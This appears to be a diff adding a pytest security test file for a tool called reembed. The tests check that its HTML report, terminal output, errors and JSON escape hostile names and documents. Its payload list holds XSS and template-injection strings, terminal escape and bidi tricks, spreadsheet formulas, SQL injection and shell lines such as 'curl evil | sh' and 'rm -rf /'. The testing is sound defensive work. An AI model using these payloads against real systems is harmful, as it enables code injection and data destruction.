@@ -1,0 +1,266 @@
+"""What documents and names can do to a terminal, a page or a script that reads the output (S10)."""
+
+from __future__ import annotations
+
+import json
+import unicodedata
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+
+from reembed.catalog.releases import AliasRecord, Grounds, Release
+from reembed.cli import text
+from reembed.cli.progress import Console
+from reembed.errors import ConfigError, GateFailed, ReembedError, SourceError
+from reembed.evaluation import report
+from reembed.redact import one_line, plain
+from reembed.space import Space
+
+PAYLOADS = [
+    # a page
+    "<script>alert(1)</script>", "</script><script>alert(1)//", "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", '"><script>alert(1)</script>', "' onmouseover='alert(1)",
+    '" onfocus="alert(1)" autofocus="', "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>", "</code><iframe src=//evil>", "<!--<script>",
+    "--><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", "<base href=//evil>",
+    "<link rel=stylesheet href=//evil>", "<meta http-equiv=refresh content=0;url=//evil>",
+    "<object data=//evil>", "<embed src=//evil>", "<form action=//evil><input>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>",
+    "<x contenteditable>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<b>bold</b>", "&lt;script&gt;", "&#60;script&#62;", "{{ 7 * 7 }}",
+    "{% raw %}", "{{ c.__class__.__mro__ }}", "${7*7}", "\u003cscript\u003e",
+    "<\u017fcript>alert(1)</\u017fcript>", "<scr\0ipt>alert(1)</scr\0ipt>", "\uff1cscript\uff1e",
+    "<style>*{background:url(//evil)}</style>",
+    # a terminal
+    "\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b31m",
+    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "\r\x1b[Kerased", "\x08\x08\x08\x08hidden", "\x07",
+    "\u202etxt.exe", "\u2066isolate\u2069", "\u200bzero\u200dwidth", "\ufeffmark", "\U000e0041tag",
+    "line\nerror: fake", "a\n  fix: curl evil | sh", "a\r\nNext: reembed promote --force",
+    "a\u2028fix: rm -rf /", "a\u2029b", "a\x85b",
+    # a spreadsheet, a shell, a query
+    "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "$(touch x)", "`touch x`", "; rm -rf /", "x' OR '1'='1",
+    "\ud800half",
+]  # fmt: skip
+STEERING = ("Cc", "Cf", "Cs", "Zl", "Zp")
+
+
+def test_there_are_payloads_enough() -> None:
+    assert len(set(PAYLOADS)) >= 60
+
+
+def steers(text: str, lines: int = 0) -> bool:
+    """Whether a character moves or hides anything, or there are more line ends than `lines`."""
+    plain_text = text.replace("\x1b[31m", "").replace("\x1b[32m", "").replace("\x1b[33m", "")
+    plain_text = plain_text.replace("\x1b[0m", "")  # our own colours
+    found = [c for c in plain_text if c != "\n" and unicodedata.category(c) in STEERING]
+    return bool(found) or text.count("\n") > lines
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
+def test_s10_no_payload_steers_a_line(payload: str) -> None:
+    assert not steers(one_line(payload))
+    assert not steers(plain(payload), payload.count("\n"))
+    assert one_line(payload).encode()  # half surrogates would end the program
+
+
+# the report
+
+
+class Shape(HTMLParser):
+    """Elements and attributes of a page, and its text."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, tuple[str, ...]]] = []
+        self.classes: set[str | None] = set()
+        self.text = ""
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, tuple(name for name, _ in attrs)))
+        self.classes |= {value for name, value in attrs if name == "class"}
+
+    def handle_comment(self, data: str) -> None:
+        self.elements.append(("comment", ()))
+
+    def handle_decl(self, decl: str) -> None:
+        assert decl == "doctype html"
+
+    def handle_pi(self, data: str) -> None:
+        self.elements.append(("instruction", ()))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def summary(words: str) -> dict[str, Any]:
+    return {
+        "release": words, "model": words, "space": words, "dim": 8, "rows": 10, "dead_letters": 0,
+        "source_version": 1, "created_at": words,
+    }  # fmt: skip
+
+
+def told(words: str) -> dict[str, Any]:
+    return {
+        "candidate": words, "live": words, "number": 1, "verdict": words, "margin": None, "changed": [words],
+        "queries": {"source": words, "sha256": words, "count": 1}, "by": words, "at": words,
+    }  # fmt: skip
+
+
+def overruled(words: str) -> dict[str, Any]:
+    """What came before a comparison, and what it judged otherwise than planned."""
+    change = {"reason": words, "by": words, "at": words}
+    margin = {**change, "before": {"margin": None}, "after": {"margin": 0.02}}
+    before, after = ({"sha256": words, "count": n} for n in (2, 1))
+    queries = {**change, "before": before, "after": {"queries": words, **after}}
+    return {"changes": [margin, queries], "earlier": [told(words)]}
+
+
+def page(words: str) -> str:
+    """A report with `words` wherever text comes from outside."""
+    change = {"mean": 0.1, "low": 0.0, "high": 0.2, "lower": 0.05, "upper": 0.15}
+    metric = {"live": 0.5, "candidate": 0.6, "change": change, "worse": 1, "same": 2, "better": 3}
+    space = Space(
+        words, words, "w", "t", "mean", words, words, True, None, None, "none", "float32", 8
+    )
+    release = Release(
+        id=words, alias=words, run_id=words, space=space, encoder={"model": words}, table=words, table_version=1,
+        table_tag=words, sealed_sha256="0", table_manifest={}, index=words, index_sha256="0",
+        rows=1, dead_letters=0, number=1, index_bytes=1,
+        source={"uri": words, "version": 1}, gate={},
+        verify={"documents": 1, "rows": 1, "dead_letters": 0, "confidence": words, "passed": True,
+                "differences": {words: {"count": 1, "examples": [words]}}},
+    )  # fmt: skip
+    grounds = Grounds(words, forced=True, unknown=(words,))
+    record = AliasRecord(
+        1, "t", None, "promote", release, grounds, (words,), None, None, words, words, words
+    )
+    comparison = {
+        "alias": words, "live": summary(words), "candidate": summary(words), "verdict": "fail", "at": words,
+        "queries": {"source": words, "count": 1, "dropped": 1, "sha256": words, "own_documents": 1, "own_judged": 1},
+        "gate": {"margin": 0.02}, "planned_gate": {"margin": None}, "gate_is_late": False, "by": words, "number": 2,
+        "documents": {"differ": (words,), "behind": None},
+        **overruled(words), "margin_needed": 0.03, "metrics": {"ndcg@10": metric},
+        "ann_recall@10": {"live": 1.0, "candidate": 1.0},
+        "overlap@10": 0.5, "judged@10": {"live": 1.0, "candidate": 1.0}, "queries_needed": 3,
+        "latency": {k: {"p50_ms": 1.0, "p95_ms": 1.0, "p99_ms": 1.0} for k in ("live", "candidate")},
+        "rules": [{"verdict": "pass", "name": words, "detail": words, "margin": 0.02}],
+    }  # fmt: skip
+    return report.html(comparison, release, [record])
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
+def test_s10_no_payload_becomes_part_of_the_page(payload: str) -> None:
+    usual, hostile = Shape(page("word")), Shape(page(payload))
+    assert hostile.elements == usual.elements
+    assert hostile.classes == usual.classes
+    assert not [name for _, names in hostile.elements for name in names if name.startswith("on")]
+    assert one_line(payload) in hostile.text  # it is there to be read
+    assert not steers(page(payload), page("word").count("\n"))
+    assert page(payload).encode()
+
+
+def test_s10_the_page_may_load_and_run_nothing() -> None:
+    text = page("word")
+    policy = "default-src 'none'; style-src 'unsafe-inline'"
+    assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in text
+    assert text.index("Content-Security-Policy") < text.index("<title>")
+    shape = Shape(text)
+    assert not {"script", "link", "img", "iframe", "object", "base", "form"} & {
+        t for t, _ in shape.elements
+    }
+    assert not {"href", "src", "srcset", "action"} & {
+        n for _, names in shape.elements for n in names
+    }
+    assert "url(" not in text
+    assert "@import" not in text
+
+
+# the verbs
+
+
+def results(words: str) -> dict[str, dict[str, Any]]:
+    """One result of each verb that shows text from outside, with `words` in its place."""
+    hit = {"doc_id": words, "score": 0.5, "columns": {"title": words}}
+    step = {
+        "generation": 1, "at": words, "action": "promote", "release": words, "model": words, "by": words,
+        "forced": True, "reason": words, "comparison": {**told(words), **overruled(words)}, "unknown": [words],
+        "token": "t",
+    }  # fmt: skip
+    lag = {"newest": 2, "source_version": 1, "documents": 1, "seconds": 1, "why": words}
+    return {
+        "search": {
+            "release": words, "model": words, "space": words, "results": [{"query": words, "hits": [hit, hit]}],
+        },
+        "history": {"alias": words, "steps": [step]},
+        "verify": {
+            "release": words, "rebuild": words, "larger": None,
+            "documents": 1, "rows": 1, "dead_letters": 1, "confidence": words, "passed": False,
+            "differences": {"missing": {"count": 1, "examples": [words]}}, "source_version": 1, "lag": lag,
+            "behind": {"missing": {"count": 1, "examples": [words]}},
+        },
+        "import": {
+            "uri": words,
+            "rows": 1,
+            "columns": [words],
+            "types": {words: words},
+            "notes": {words: words},
+            "skipped": [words],
+            "version": 1,
+        },
+        "config": {"valid": True, "check": False, "settings": {"alias": words}, "origins": {"alias": words}},
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize("verb", list(results("word")))
+def test_s10_no_payload_steers_a_verbs_output(verb: str) -> None:
+    usual = text.text(verb, results("word")[verb])
+    for payload in PAYLOADS:
+        assert not steers(text.text(verb, results(payload)[verb]), usual.count("\n")), ascii(
+            payload
+        )
+
+
+@pytest.mark.parametrize("kind", [ReembedError, SourceError, GateFailed])
+def test_s10_no_payload_adds_a_line_to_an_error(kind: type[ReembedError]) -> None:
+    for payload in PAYLOADS:
+        said = text.error(kind(payload, payload, f"reembed run --set source.text={payload}"))
+        assert not steers(said, 2), ascii(payload)
+        assert [line.strip().startswith("fix:") for line in said.split("\n")] == [
+            False,
+            False,
+            True,
+        ]
+
+
+def test_s10_an_error_in_settings_keeps_its_lines() -> None:
+    assert (
+        text.error(ConfigError("a.yaml: 2 settings are wrong\n  line 1: x\n  line 2: y")).count(
+            "\n"
+        )
+        == 2
+    )
+
+
+def test_s10_progress_is_one_line_for_each_event(capsys: pytest.CaptureFixture[str]) -> None:
+    console = Console()
+    for payload in PAYLOADS:
+        console("ray", where=payload)
+        console("begin", what=payload)
+    said = capsys.readouterr().err
+    assert not steers(said, 2 * len(PAYLOADS))
+    assert said.count("\n") == 2 * len(PAYLOADS)
+
+
+def test_s10_json_output_is_one_line_of_ascii() -> None:
+    for payload in PAYLOADS:
+        for value in (
+            results(payload),
+            text.error_record(ReembedError(payload, payload, payload)),
+        ):
+            line = json.dumps(value, default=str)
+            assert line.isascii()
+            assert "\n" not in line
+            assert json.loads(line) == value
